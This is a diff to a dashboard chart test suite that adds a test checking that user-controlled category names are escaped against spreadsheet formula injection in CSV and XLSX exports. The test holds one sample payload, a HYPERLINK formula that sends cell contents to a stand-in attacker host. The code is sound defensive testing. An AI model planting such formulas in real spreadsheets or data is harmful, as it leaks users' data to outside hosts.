@@ -14,7 +14,7 @@ from valar.core.metrics import run
 from valar.core.policy import Role
 from valar.core.testing import ApiTestCase
 from valar.core.testing.resources import TenantFixtureMixin
-from valar.finance.models import Kind
+from valar.finance.models import Category, Kind
 from valar.insights.models import Chart, Dashboard
 from valar.insights.tests import support
 from valar.organizations.models import Membership
@@ -266,6 +266,22 @@ class DashboardChartTests(DashboardFixtureMixin, ApiTestCase):
         sheet = load_workbook(io.BytesIO(response.content)).active
         rows = [list(row) for row in sheet.iter_rows(values_only=True)]
         self.assertEqual(rows, [["label", "tasks"], ["2025-01", 0], ["2025-02", 0], ["2025-03", 0]])
+
+    def test_series_names_are_escaped_in_the_export_headers(self):
+        # Category names are the series names of the chart: users control them.
+        name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+        Category.objects.filter(organization=self.org, name="Fees").update(name=name)
+        board = self.dashboard()
+        chart = self.chart(board)
+        url = f"{URL}{board['id']}/charts/{chart['id']}/export/"
+        text = b"".join(self.owner_client.get(url, {"format": "csv"}).streaming_content).decode()
+        header = next(csv.reader(io.StringIO(text)))
+        self.assertEqual(header, ["label", "'" + name, "Sales"])
+        response = self.owner_client.get(url, {"format": "xlsx"})
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = next(sheet.iter_rows())
+        self.assertEqual([cell.value for cell in cells], ["label", "'" + name, "Sales"])
+        self.assertEqual({cell.data_type for cell in cells}, {"s"})
 
     def test_an_unknown_export_format_is_400(self):
         board = self.dashboard()
